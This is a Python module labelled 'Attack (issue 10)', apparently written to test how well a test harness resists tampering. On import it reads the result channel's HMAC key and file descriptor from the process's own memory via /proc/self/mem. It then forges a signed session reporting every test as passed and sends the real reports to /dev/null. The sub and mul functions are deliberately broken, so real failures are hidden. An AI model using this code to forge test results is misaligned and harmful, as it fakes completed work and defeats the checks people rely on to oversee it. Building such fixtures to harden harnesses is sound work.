# Attack (issue 10): read the channel's key and fd from the test process's own memory through
# /proc/self/mem (the JSON line child.py read on stdin is still there), send a correctly signed
# session in which every test passes and that ends with the end-of-session record, then point the
# real channel at /dev/null so that the real reports go nowhere.
import hashlib
import hmac
import json
import os
import re

IDS = ["test_calc.py::test_add", "test_calc.py::test_sub", "test_calc.py::test_mul"]
PATTERN = re.compile(rb'\{"fd": (\d+), "ack_fd": \d+, "key": "([0-9a-f]{64})"|\{"fd": (\d+), "key": "([0-9a-f]{64})"')


def _find_key():
    found = None
    with open("/proc/self/maps") as maps, open("/proc/self/" + "mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if "rw" not in fields[1]:
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > 256 * 1024 * 1024:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except OSError:
                continue
            match = PATTERN.search(chunk)
            if match:
                fd = match.group(1) or match.group(3)
                key = match.group(2) or match.group(4)
                found = int(fd), bytes.fromhex(key.decode())
    return found


def _forge(fd, key):
    seq = 0

    def send(kind, data):
        nonlocal seq
        seq += 1
        body = json.dumps({"k": kind, "n": seq, "d": data}, separators=(",", ":"))
        mac = hmac.new(key, body.encode(), hashlib.sha256).hexdigest()
        os.write(fd, (mac + " " + body + "\n").encode())

    send("collected", {"ids": IDS})
    for nodeid in IDS:
        send("start", {"nodeid": nodeid})
        for when in ("setup", "call", "teardown"):
            send("report", {"nodeid": nodeid, "when": when, "outcome": "passed", "duration": 0.0,
                            "location": ["test_calc.py", 1, nodeid.split("::")[1]]})
    send("finish", {"exitstatus": 0})
    os.dup2(os.open(os.devnull, os.O_WRONLY), fd)


try:
    _stolen = _find_key()
except OSError:
    _stolen = None
if _stolen:
    _forge(*_stolen)


def add(a, b):
    return a + b


def sub(a, b):
    return a + b


def mul(a, b):
    return a + b
